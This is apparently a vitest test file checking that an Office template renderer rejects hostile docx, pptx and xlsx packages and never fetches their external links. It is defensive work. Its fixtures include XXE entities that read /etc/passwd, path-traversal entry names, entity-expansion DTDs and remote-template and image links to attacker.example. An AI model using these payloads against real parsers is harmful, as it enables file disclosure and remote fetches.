import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { isQuireError } from '../../core/errors';
import { docxRenderer } from './docx';
import { pptxRenderer } from './pptx';
import { cell, content, env, input, makeDocx, makePptx, makeXlsx, p, row, shape, unzipText, zip } from './test-helpers';
import { xlsxRenderer } from './xlsx';
import { OfficePackage, ZIP_LIMITS } from './zip';

function problemOf(run: () => unknown): string | undefined {
  try {
    run();
  } catch (error) {
    if (!isQuireError(error, 'TemplateParseError')) throw error;
    return String(error.params.problem);
  }
  return undefined;
}

const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>';

describe('hostile Office files', () => {
  it('refuses a zip bomb by its compression ratio and by its total size', () => {
    const bomb = zipSync({
      '[Content_Types].xml': strToU8(CONTENT_TYPES),
      'word/document.xml': new Uint8Array(8 * 1024 * 1024),
    });
    expect(problemOf(() => OfficePackage.read(bomb))).toBe('zip-bomb');
    const big = zipSync({ '[Content_Types].xml': strToU8(CONTENT_TYPES), 'a.bin': new Uint8Array(4096) }, { level: 0 });
    expect(problemOf(() => OfficePackage.read(big, { ...ZIP_LIMITS, maxTotalBytes: 1000 }))).toBe('zip-bomb');
  });

  it('refuses entry names that climb out of the package', () => {
    const evil = zip({ '[Content_Types].xml': CONTENT_TYPES, '../../etc/passwd': 'x' });
    expect(problemOf(() => OfficePackage.read(evil))).toBe('path-traversal');
  });

  it('refuses macro-enabled files by name and by content', () => {
    const bytes = makeDocx({ body: p('x') });
    expect(problemOf(() => docxRenderer.parse({ ...content('docx', bytes), fileName: 'a.docm' }))).toBe(
      'macro-enabled',
    );
    const withMacros = makeDocx({ body: p('x'), extra: { 'word/vbaProject.bin': new Uint8Array([1, 2]) } });
    expect(problemOf(() => docxRenderer.parse(content('docx', withMacros)))).toBe('macro-enabled');
  });

  it('refuses DTDs, so no entity can expand or reach a file', () => {
    const body = p('x');
    const bytes = makeDocx({ body });
    const files = unzipText(bytes);
    files['word/document.xml'] = files['word/document.xml']!.replace(
      '<w:document',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document',
    );
    expect(problemOf(() => docxRenderer.parse(content('docx', zip(files))))).toBe('dtd');
  });

  it('refuses what is not a zip at all', () => {
    expect(problemOf(() => pptxRenderer.parse(content('pptx', strToU8('plain text, not a package'))))).toBe(
      'not-a-zip',
    );
  });

  it('never fetches external relationships of the template', async () => {
    const rels =
      '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://attacker.example/x.png" TargetMode="External"/>';
    const files = unzipText(makeDocx({ body: p('{a}') }));
    files['word/_rels/document.xml.rels'] = files['word/_rels/document.xml.rels']!.replace(
      '</Relationships>',
      `${rels}</Relationships>`,
    );
    const fetched: string[] = [];
    const template = docxRenderer.parse(content('docx', zip(files)));
    const out = await docxRenderer.render(template, input({ a: 1 }), {
      ...env,
      loadImage: async (url) => {
        fetched.push(url);
        return undefined;
      },
    });
    expect(fetched).toEqual([]);
    expect(unzipText(out)['word/_rels/document.xml.rels']).toContain('http://attacker.example/x.png');
  });

  it('gives every refusal as the catalogued TemplateParseError (100001), in every kind of file', () => {
    const codeOf = (run: () => unknown) => {
      try {
        run();
      } catch (error) {
        return isQuireError(error) ? [error.code, String(error.params.problem)] : ['not catalogued'];
      }
      return ['accepted'];
    };
    const sheet = makeXlsx([{ name: 'S', rows: row(1, cell('A1', '{a}')) }]);
    const sheetFiles = unzipText(sheet);
    sheetFiles['xl/worksheets/sheet1.xml'] = sheetFiles['xl/worksheets/sheet1.xml']!.replace(
      '<worksheet',
      '<!DOCTYPE w [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><worksheet',
    );
    expect(codeOf(() => xlsxRenderer.parse(content('xlsx', zip(sheetFiles))))).toEqual([100001, 'dtd']);
    const deckFiles = unzipText(makePptx([shape(2, 'Hello {a}')]));
    const slide = Object.keys(deckFiles).find((n) => /slides\/slide1\.xml$/.test(n))!;
    deckFiles[slide] = deckFiles[slide]!.replace('?>', '?><!DOCTYPE p:sld SYSTEM "http://attacker.example/x.dtd">');
    expect(codeOf(() => pptxRenderer.parse(content('pptx', zip(deckFiles))))).toEqual([100001, 'dtd']);
    expect(codeOf(() => xlsxRenderer.parse({ ...content('xlsx', sheet), fileName: 'book.xlsm' }))).toEqual([
      100001,
      'macro-enabled',
    ]);
    expect(
      codeOf(() => pptxRenderer.parse({ ...content('pptx', makePptx([shape(2, 'x')])), fileName: 'deck.pptm' })),
    ).toEqual([100001, 'macro-enabled']);
    // A macro workbook renamed .xlsx: its content type gives it away.
    sheetFiles['xl/worksheets/sheet1.xml'] = unzipText(sheet)['xl/worksheets/sheet1.xml']!;
    sheetFiles['[Content_Types].xml'] = sheetFiles['[Content_Types].xml']!.replace(
      'spreadsheetml.sheet.main+xml',
      'ms-excel.sheet.macroEnabled.main+xml',
    );
    expect(codeOf(() => xlsxRenderer.parse(content('xlsx', zip(sheetFiles))))).toEqual([100001, 'macro-enabled']);
    const traversal = zip({ ...unzipText(makePptx([shape(2, 'x')])), '../evil.xml': '<x/>' });
    expect(codeOf(() => pptxRenderer.parse(content('pptx', traversal)))).toEqual([100001, 'path-traversal']);
  });

  it('never fetches an attached Word template or a linked picture of a deck', async () => {
    const files = unzipText(makeDocx({ body: p('{a}') }));
    files['word/settings.xml'] =
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rIdT"/></w:settings>';
    files['word/_rels/settings.xml.rels'] =
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/normal.dotm" TargetMode="External"/></Relationships>';
    const fetched: string[] = [];
    const loadImage = async (url: string) => {
      fetched.push(url);
      return undefined;
    };
    const word = await docxRenderer.render(docxRenderer.parse(content('docx', zip(files))), input({ a: 1 }), {
      ...env,
      loadImage,
    });
    expect(unzipText(word)['word/_rels/settings.xml.rels']).toContain('https://attacker.example/normal.dotm');
    const deck = unzipText(makePptx([shape(2, '{a}')]));
    const slideRels = Object.keys(deck).find((n) => /slides\/_rels\/slide1\.xml\.rels$/.test(n));
    const relsPart = slideRels ?? 'ppt/slides/_rels/slide1.xml.rels';
    const link =
      '<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://attacker.example/p.png" TargetMode="External"/>';
    deck[relsPart] = deck[relsPart]
      ? deck[relsPart]!.replace('</Relationships>', `${link}</Relationships>`)
      : `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${link}</Relationships>`;
    await pptxRenderer.render(pptxRenderer.parse(content('pptx', zip(deck))), input({ a: 1 }), { ...env, loadImage });
    expect(fetched).toEqual([]);
  });
});
